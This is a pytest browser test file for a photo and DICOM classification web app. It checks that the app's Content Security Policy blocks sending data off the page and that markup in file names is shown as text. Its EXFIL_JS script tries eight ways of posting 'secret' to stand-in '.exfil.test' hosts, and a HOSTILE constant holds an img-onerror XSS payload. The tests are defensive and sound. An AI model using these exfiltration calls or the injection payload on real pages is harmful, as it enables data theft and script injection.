"""The security policy (issue 12) is enforced by the browser, on a host that sends no security
headers at all (GitHub Pages): by the pages' <meta> tags on the first visit, and by the
service worker's headers when it serves the installed app offline.

From inside the running page, every way of sending data to another origin is refused with a
``securitypolicyviolation`` event: fetch, XMLHttpRequest, an <img>, a <script>,
navigator.sendBeacon, a WebSocket, a form post, and a fetch from a blob: worker (the way the
model worker starts, so it inherits the page's policy).

And every view (photo result with its bars and heatmap, colour and grey-scale DICOM, a batch
with its detail view; the speed test in test_page_batch.py) runs
under the policy without a violation, with file names that are markup shown as text.
"""

from __future__ import annotations

import shutil

import dicoms
import numpy as np
import pytest
from harness import RESULT_TIMEOUT, classify, policy_errors, wait_for
from PIL import Image
from test_pwa import Site, page_ready, sw_ready

import security

pytestmark = pytest.mark.browser

# vector -> the directive that must refuse it; each vector uses its own host (<vector>.exfil.test)
VECTORS = {
    "fetch": "connect-src",
    "xhr": "connect-src",
    "img": "img-src",
    "script": "script-src-elem",
    "beacon": "connect-src",
    "websocket": "connect-src",
    "form": "form-action",
    "worker": "connect-src",
}

EXFIL_JS = """
const [vectors, timeoutMs, done] = arguments;
const seen = {};
const note = (e) => {
  let host = "";
  try { host = new URL(e.blockedURI).hostname; } catch (err) { host = String(e.blockedURI); }
  const v = host.split(".")[0];
  if (v in vectors && !(v in seen)) seen[v] = e.effectiveDirective;
};
document.addEventListener("securitypolicyviolation", note);
const at = (v, scheme) => `${scheme || "http"}://${v}.exfil.test/photo?data=secret`;
const attempt = (f) => { try { f(); } catch (err) { /* refused synchronously: still an event */ } };
attempt(() => fetch(at("fetch"), { method: "POST", body: "secret" }).catch(() => {}));
attempt(() => { const x = new XMLHttpRequest(); x.open("POST", at("xhr")); x.send("secret"); });
attempt(() => { const i = new Image(); i.src = at("img"); document.body.appendChild(i); });
attempt(() => { const s = document.createElement("script"); s.src = at("script");
                document.head.appendChild(s); });
attempt(() => navigator.sendBeacon(at("beacon"), "secret"));
attempt(() => new WebSocket(at("websocket", "ws")));
attempt(() => {
  const f = document.createElement("form");
  f.method = "post"; f.action = at("form"); f.hidden = true;
  const i = document.createElement("input"); i.name = "photo"; i.value = "secret";
  f.appendChild(i); document.body.appendChild(f); f.submit();
});
attempt(() => {
  const code = `addEventListener("securitypolicyviolation",
                                  (e) => postMessage(e.effectiveDirective));
    fetch(${JSON.stringify(at("worker"))}).catch(() => {});`;
  const w = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  w.onmessage = (e) => { if (!("worker" in seen)) seen.worker = e.data; };
});
const t0 = Date.now();
(function wait() {
  if (Object.keys(seen).length === Object.keys(vectors).length || Date.now() - t0 > timeoutMs) {
    document.removeEventListener("securitypolicyviolation", note);
    done({ seen, location: location.href });
  } else {
    setTimeout(wait, 50);
  }
})();
"""


def assert_exfiltration_blocked(driver, when: str) -> None:
    """Every vector is refused by the directive that governs it (and the page stays put)."""
    got = driver.execute_async_script(EXFIL_JS, VECTORS, 60_000)
    assert got["seen"] == VECTORS, f"{when}: {got}"
    assert ".exfil.test" not in got["location"], f"{when}: the page navigated away: {got}"


def test_policy_blocks_sending_data_elsewhere_first_visit_and_offline(tmp_path, make_chrome):
    site = Site(tmp_path)
    srv = site.serve(isolation=False, security_headers=False)  # like GitHub Pages
    url = srv.url
    d = make_chrome().driver
    try:
        d.get(url)
        # no reload for cross-origin isolation in the middle of the checks (pwa.js)
        d.execute_script("document.documentElement.dataset.coiReload = 'off'")
        page_ready(d, 180)
        meta = d.execute_script(
            "return document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
        )
        assert meta == security.csp(meta=True)
        assert_exfiltration_blocked(d, "first visit, <meta> policy only")
        sw_ready(d)
    finally:
        srv.stop()
    d.get(url)
    page_ready(d, 120)
    served = d.execute_async_script(
        "const done = arguments[0];"
        "fetch(location.href).then((r) => done(Object.fromEntries(r.headers)),"
        " (e) => done(String(e)));"
    )
    expected = {k.lower(): v for k, v in security.headers().items()}
    assert {k: served.get(k) for k in expected} == expected, served
    allowed = d.execute_script(
        "const p = document.permissionsPolicy || document.featurePolicy;"
        "return p ? [p.allowsFeature('camera'), p.allowsFeature('microphone'),"
        " p.allowsFeature('geolocation')] : null"
    )
    assert allowed == [True, False, False], allowed
    assert_exfiltration_blocked(d, "offline, served by the service worker")


HOSTILE = '<img src=x onerror="document.body.dataset.pwned=1">'


def test_every_view_keeps_to_the_policy(app, tmp_path, ham_images):
    """A photo (bars, heatmap), a colour DICOM and a grey-scale one (window viewer), a batch
    and its detail view, under file names that are markup: no policy violation, no markup
    from a name."""
    photo = sorted(ham_images.glob("*.jpg"))[0]
    named = tmp_path / f"{HOSTILE}.jpg"
    shutil.copy(photo, named)
    assert classify(app, named)["state"] == "done"
    d = app.driver
    widths = d.execute_script(
        "return [...document.querySelectorAll('#result .bar-fill')].map((e) => e.style.width)"
    )
    assert len(widths) == 7 and all(w.endswith("%") for w in widths), widths
    d.execute_script(
        "const s = document.getElementById('heatmap-opacity'); s.value = '40';"
        "s.dispatchEvent(new Event('input'));"
    )
    rgb = np.asarray(Image.open(photo).convert("RGB"))
    (tmp_path / f"{HOSTILE}.dcm").write_bytes(dicoms.colour(rgb))
    assert classify(app, tmp_path / f"{HOSTILE}.dcm")["state"] == "done"
    (tmp_path / "ct.dcm").write_bytes(dicoms.ct())
    assert classify(app, tmp_path / "ct.dcm")["state"] == "rejected"
    d.execute_script(
        "const s = document.getElementById('dicom-width'); s.value = s.min;"
        "s.dispatchEvent(new Event('input'));"
    )
    # a batch (several files) and a row's detail view, whose bars are sized the same way
    d.find_element("id", "file-input").send_keys(f"{named}\n{photo}")
    wait_for(
        lambda: d.execute_script("return document.getElementById('batch').dataset.state") == "done",
        RESULT_TIMEOUT,
        "the batch",
    )
    d.find_element("css selector", "#batch-results tbody tr").click()
    widths = d.execute_script(
        "return [...document.querySelectorAll('#batch-detail .bar-fill')].map((e) => e.style.width)"
    )
    assert len(widths) == 7 and all(w.endswith("%") for w in widths), widths
    assert d.execute_script("return document.body.dataset.pwned") is None
    assert d.execute_script("return document.querySelectorAll('img[src=x]').length") == 0
    assert not policy_errors(app)
